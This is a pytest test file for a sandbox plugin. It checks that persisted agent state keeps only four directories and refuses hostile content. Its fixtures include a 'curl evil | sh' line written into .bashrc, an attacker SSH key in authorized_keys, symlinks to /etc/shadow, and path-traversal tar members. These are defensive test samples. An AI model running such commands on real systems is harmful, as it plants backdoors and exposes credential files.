"""State persistence in real sandboxes: only the four directories survive, safely."""

from __future__ import annotations

import secrets
import signal
import tarfile
import time
from pathlib import Path
from typing import Any

import pytest
from conftest import ours, start_holding_run

from pytest_agentbox import paths, state
from pytest_agentbox.state import Limits, StateStore

HOSTILE = """
set -e
cd ~
mkdir -p workspace data output state .ssh .config
echo legit-w > workspace/notes.txt
echo legit-d > data/table.csv
echo legit-o > output/report.md
echo legit-s > state/memory.json
echo 'curl evil | sh' > .bashrc
echo 'ssh-ed25519 AAAA attacker' > .ssh/authorized_keys
echo x > .config/autostart
ln -s /etc/shadow workspace/link
ln -s / data/root
echo dup > workspace/orig
ln workspace/orig workspace/hardlink
mkfifo output/fifo
echo escaped > state/../escape
chmod 4755 workspace/notes.txt || true
"""

LEGIT = {
    "workspace/notes.txt": b"legit-w\n",
    "data/table.csv": b"legit-d\n",
    "output/report.md": b"legit-o\n",
    "state/memory.json": b"legit-s\n",
}

# Runs that start their own pytest (and so their own clean-up of dead owners' leftovers)
# share one xdist worker: a concurrent clean-up would race the leftovers these tests
# plant and inspect on purpose.
pytestmark = pytest.mark.xdist_group("inner-runs")


def stored_files(store: StateStore, scope: str) -> dict[str, tarfile.TarInfo]:
    path = store.load(scope)
    assert path is not None
    with tarfile.open(path) as tar:
        return {m.name: m for m in tar.getmembers() if m.isfile()}


def test_hostile_writes_do_not_survive_and_next_sandbox_sees_only_legit_files(
    make_sandbox: Any, tmp_path: Path
) -> None:
    store, scope = StateStore(tmp_path / "store"), "agent/hostile"
    limits = Limits(max_total_bytes=100 * 1024 * 1024)
    first = make_sandbox(state_scope=scope, state_store=store, state_limits=limits)
    assert first.run(HOSTILE).exit_code == 0
    first.close()
    files = stored_files(store, scope)
    # The hard-linked pair arrives as a regular file plus a link member: both names stay.
    pair = {"workspace/orig", "workspace/hardlink"}
    # Symlinks, fifo, dotfiles and the escape are gone.
    assert set(files) == set(LEGIT) | pair
    assert all(m.mode & 0o6000 == 0 and m.uid == 1000 for m in files.values())
    for dropped in ("workspace/link", "data/root", "output/fifo"):
        assert dropped in first.state_report or "more" in first.state_report

    second = make_sandbox(state_scope=scope, state_store=store, state_limits=limits)
    listing = second.run("cd ~ && find . -path ./app -prune -o -print | sort").stdout.split()
    # The image's own skeleton .bashrc may exist; the agent's poisoned one must not.
    assert b"evil" not in second.run("cat ~/.bashrc").stdout.encode()
    assert "./.ssh" not in listing
    assert "./escape" not in listing and "./.config" not in listing
    for name, data in {**LEGIT, "workspace/orig": b"dup\n", "workspace/hardlink": b"dup\n"}.items():
        assert second.read_file(f"{second.home}/{name}") == data
    assert "./workspace/link" not in listing and "./output/fifo" not in listing


def test_crash_during_snapshot_keeps_the_previous_state(
    make_sandbox: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    store, scope = StateStore(tmp_path / "store"), "agent/crash"
    sb = make_sandbox(state_scope=scope, state_store=store)
    sb.run("mkdir -p ~/state && echo v1 > ~/state/v")
    sb.close()
    before = store.load(scope).read_bytes()

    sb2 = make_sandbox(state_scope=scope, state_store=store)
    sb2.run("echo v2 > ~/state/v && head -c 5000000 /dev/urandom > ~/state/big")
    real = state.open_engine_archive

    def dying_archive(container: Any, path: str) -> Any:
        archive = real(container, path)
        if archive is None:
            return None

        def chunks() -> Any:
            try:
                for i in range(1 << 30):
                    if i == 3:
                        raise ConnectionError("engine went away mid-snapshot")
                    chunk = archive.read(65536)
                    if not chunk:
                        return
                    yield chunk
            finally:
                archive.close()

        return chunks()

    monkeypatch.setattr(state, "open_engine_archive", dying_archive)
    sb2.close()
    assert store.load(scope).read_bytes() == before
    assert any("previous state kept" in w for w in sb2.warnings)
    assert not [p for p in store.root.rglob("*") if ".tmp" in p.name]


# 16 TiB; ext4 (the usual overlay2 backing) stops 4 KiB short of it.
SPARSE_16T = (
    "mkdir -p ~/workspace && (truncate -s 16T ~/workspace/huge.img 2>/dev/null"
    " || truncate -s 17592186040320 ~/workspace/huge.img) && stat -c %s ~/workspace/huge.img"
)


def test_16tib_sparse_file_costs_seconds_and_keeps_the_previous_state(
    make_sandbox: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    store, scope = StateStore(tmp_path / "store"), "agent/sparse"
    first = make_sandbox(state_scope=scope, state_store=store)
    first.run("mkdir -p ~/state ~/workspace && echo v1 > ~/state/v && echo w > ~/workspace/w")
    first.close()
    before = store.load(scope).read_bytes()  # type: ignore[union-attr]

    pulled: list[int] = []
    real = state.open_engine_archive

    def counting(container: Any, path: str) -> Any:
        archive = real(container, path)
        if archive is not None:
            read = archive.readinto

            def readinto(b: Any) -> int:
                n = read(b)
                pulled.append(n)
                return n

            archive.readinto = readinto
        return archive

    monkeypatch.setattr(state, "open_engine_archive", counting)
    second = make_sandbox(state_scope=scope, state_store=store)
    size = int(second.run(SPARSE_16T).stdout.split()[-1])
    assert size >= (1 << 44) - 4096
    second.run("echo v2 > ~/state/v")
    started = time.monotonic()
    second.close()
    seconds = time.monotonic() - started
    # The header declaring 16 TiB ends the snapshot: almost nothing of the stream is read.
    assert sum(pulled) < 16 << 20, f"read {sum(pulled)} bytes of the snapshot stream"
    assert seconds < 30, f"teardown took {seconds:.1f}s"
    assert store.load(scope).read_bytes() == before  # type: ignore[union-attr]
    assert second.state_report.startswith("not saved, previous state kept:")
    assert "workspace/huge.img declares 17.6 TB" in second.state_report
    assert any("previous state kept" in w and "17.6 TB" in w for w in second.warnings)

    third = make_sandbox(state_scope=scope, state_store=store)
    assert third.read_file(f"{third.home}/state/v") == b"v1\n"
    assert third.read_file(f"{third.home}/workspace/w") == b"w\n"


def test_hard_linked_file_keeps_both_names_in_the_next_sandbox(
    make_sandbox: Any, tmp_path: Path
) -> None:
    store, scope = StateStore(tmp_path / "store"), "agent/links"
    first = make_sandbox(state_scope=scope, state_store=store)
    script = (
        "mkdir -p ~/workspace/sub ~/data && head -c 200000 /dev/urandom > ~/workspace/a.bin"
        " && ln ~/workspace/a.bin ~/workspace/sub/z.bin && ln ~/workspace/a.bin ~/workspace/0.bin"
        " && ln -s /etc/passwd ~/workspace/sym && ln ~/workspace/sym ~/workspace/sym2"
        " && sha256sum ~/workspace/a.bin"
    )
    digest = first.run(script).stdout.split()[0]
    first.close()
    files = stored_files(store, scope)
    names = {"workspace/a.bin", "workspace/sub/z.bin", "workspace/0.bin"}
    assert names <= set(files)
    assert "workspace/sym2" not in files  # a hard link to a symlink is a symlink: dropped
    assert "workspace/sym2" in first.state_report

    second = make_sandbox(state_scope=scope, state_store=store)
    out = second.run(
        "cd ~/workspace && sha256sum a.bin sub/z.bin 0.bin && stat -c '%h %U %F' a.bin 0.bin"
    ).stdout.split("\n")
    assert [line.split()[0] for line in out[:3]] == [digest] * 3
    # Two (three) regular files, each with one link, owned by the agent user.
    assert out[3:5] == ["1 agent regular file"] * 2


SUITE = """
import pytest

@pytest.mark.parametrize("i", range(8))
@pytest.mark.agentbox(state="shared")
def test_shared(sandbox, i):
    r = sandbox.run("mkdir -p ~/state && echo %d >> ~/state/log && cat ~/state/log" % i)
    assert r.exit_code == 0

@pytest.mark.parametrize("i", range(12))
def test_plain(sandbox, i):
    assert sandbox.run("id -u").stdout.strip() != "0"

@pytest.mark.parametrize("i", range(4))
def test_fails_on_purpose(sandbox, i):
    assert sandbox.run("echo %d" % i).stdout == "never"
"""


def test_parallel_suite_has_right_outcomes_and_leaves_nothing(
    pytester: pytest.Pytester, docker_client: Any, base_image: str
) -> None:
    pytester.makepyfile(test_suite=SUITE)
    run_id = secrets.token_hex(8)
    result = pytester.runpytest_subprocess(
        "-n", "4", f"--testrunuid={run_id}", "--agentbox-require-docker",
        f"--agentbox-image={base_image}", "-p", "no:randomly", timeout=600,
    )  # fmt: skip
    result.assert_outcomes(passed=20, failed=4)
    assert ours(docker_client, run_id) == []
    store = StateStore(pytester.path / ".pytest_cache" / "agentbox" / "state")
    (info,) = store.list()
    lines = stored_files(store, info.scope)
    assert "state/log" in lines  # serialised saves: one complete file, never a torn tar


def test_sigkilled_run_is_cleaned_by_the_next_run_and_strangers_untouched(
    pytester: pytest.Pytester, docker_client: Any, base_image: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    stranger = docker_client.containers.run(
        base_image, ["sleep", "300"], detach=True, name=f"not-ours-{secrets.token_hex(4)}"
    )
    try:
        dead_run = secrets.token_hex(8)
        proc = start_holding_run(pytester.path, base_image, dead_run)
        proc.send_signal(signal.SIGKILL)
        proc.wait()
        leaked = ours(docker_client, dead_run)
        assert len(leaked) >= 2  # two sandboxes left running by the killed run

        pytester.makepyfile(test_next="def test_next(sandbox):\n    assert sandbox\n")
        # A new run (not this xdist worker's, whose once-per-run clean-up already ran).
        monkeypatch.setenv("PYTEST_XDIST_TESTRUNUID", secrets.token_hex(8))
        nxt = pytester.runpytest_subprocess(
            "-p", "no:cacheprovider", f"--agentbox-image={base_image}", "test_next.py"
        )
        nxt.assert_outcomes(passed=1)
        assert ours(docker_client, dead_run) == []
        nxt.stdout.fnmatch_lines(["*leaked resources cleaned: [1-9]*"])
        stranger.reload()
        assert stranger.status == "running"
    finally:
        stranger.remove(force=True)


def test_gc_leaves_objects_of_live_owners(docker_client: Any, base_image: str) -> None:
    from pytest_agentbox.backends.docker import cleanup

    owner = paths.Owner.current("live-" + secrets.token_hex(4))
    c = docker_client.containers.create(base_image, ["true"], labels=owner.labels("sandbox"))
    try:
        assert all(leak.name != c.name for leak in cleanup.collect(docker_client))
        c.reload()
    finally:
        c.remove(force=True)


def test_a_state_with_nothing_in_it_is_saved_and_the_next_sandbox_starts(
    make_sandbox: Any, tmp_path: Path
) -> None:
    # The agent made none of the four directories: the snapshot holds nothing. Before,
    # that empty tar was refused on restore ("empty archive") and every later sandbox of
    # the scope failed to start until the store was deleted by hand.
    store, scope = StateStore(tmp_path / "store"), "agent/empty"
    first = make_sandbox(state_scope=scope, state_store=store)
    first.run("echo not kept > ~/scratch.txt")
    first.close()
    assert store.load(scope) is not None
    second = make_sandbox(state_scope=scope, state_store=store)
    assert second.run("ls ~/workspace ~/scratch.txt").exit_code != 0
    second.run("mkdir -p ~/workspace && echo kept > ~/workspace/a.txt")
    second.close()
    third = make_sandbox(state_scope=scope, state_store=store)
    assert third.read_file(f"{third.home}/workspace/a.txt") == b"kept\n"


def _crafted_store_tar() -> bytes:
    """A store file as an attacker with the user's rights would write it: every member
    kind the safe extractor must refuse, plus two it must keep."""
    import io

    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:

        def add(name: str, kind: bytes = tarfile.REGTYPE, data: bytes = b"x", **kw: Any) -> None:
            info = tarfile.TarInfo(name)
            info.type, info.mode, info.uid, info.gid = kind, kw.get("mode", 0o644), 0, 0
            info.linkname = kw.get("link", "")
            info.size = len(data) if kind == tarfile.REGTYPE else 0
            tar.addfile(info, io.BytesIO(data) if kind == tarfile.REGTYPE else None)

        add("workspace", tarfile.DIRTYPE, mode=0o777)
        add("workspace/kept.txt", data=b"kept\n", mode=0o6777)
        add("state/ok.json", data=b"{}\n")
        add("/home/agent/.bashrc", data=b"curl evil | sh\n")  # absolute
        add("workspace/../../../tmp/escaped", data=b"escaped\n")  # traversal
        add("data/../.profile", data=b"curl evil | sh\n")  # traversal into the home
        add("workspace/shadow", tarfile.SYMTYPE, link="/etc/shadow")
        add("workspace/up", tarfile.SYMTYPE, link="../..")
        add("workspace/hl", tarfile.LNKTYPE, link="/etc/passwd")
        add("workspace/dev", tarfile.CHRTYPE)
        add("workspace/fifo", tarfile.FIFOTYPE)
        add(".ssh/authorized_keys", data=b"ssh-ed25519 AAAA attacker\n")  # outside the four
    return buf.getvalue()


def test_a_crafted_store_file_restores_only_clean_members(
    make_sandbox: Any, tmp_path: Path
) -> None:
    # The store is a file on the host that anything with the user's rights can replace
    # between runs; restore must go through the safe extractor again, not trust it.
    store, scope = StateStore(tmp_path / "store"), "agent/crafted"
    first = make_sandbox(state_scope=scope, state_store=store)
    first.run("mkdir -p ~/workspace && echo real > ~/workspace/real.txt")
    first.close()
    stored = store.load(scope)
    assert stored is not None
    stored.write_bytes(_crafted_store_tar())

    second = make_sandbox(state_scope=scope, state_store=store)
    found = second.run(
        "cd ~ && find workspace data output state .ssh -printf '%p %y %U %m\\n' 2>/dev/null;"
        " ls /tmp/escaped; grep -l evil ~/.bashrc ~/.profile; true"
    ).stdout.split("\n")
    uid = str(second.user["uid"])
    assert sorted(line for line in found if line) == [
        f"state d {uid} 755",
        f"state/ok.json f {uid} 644",
        f"workspace d {uid} 755",
        f"workspace/kept.txt f {uid} 755",
    ]
    assert second.read_file(f"{second.home}/workspace/kept.txt") == b"kept\n"
    dropped = " ".join(second.warnings)
    assert "state restore dropped" in dropped
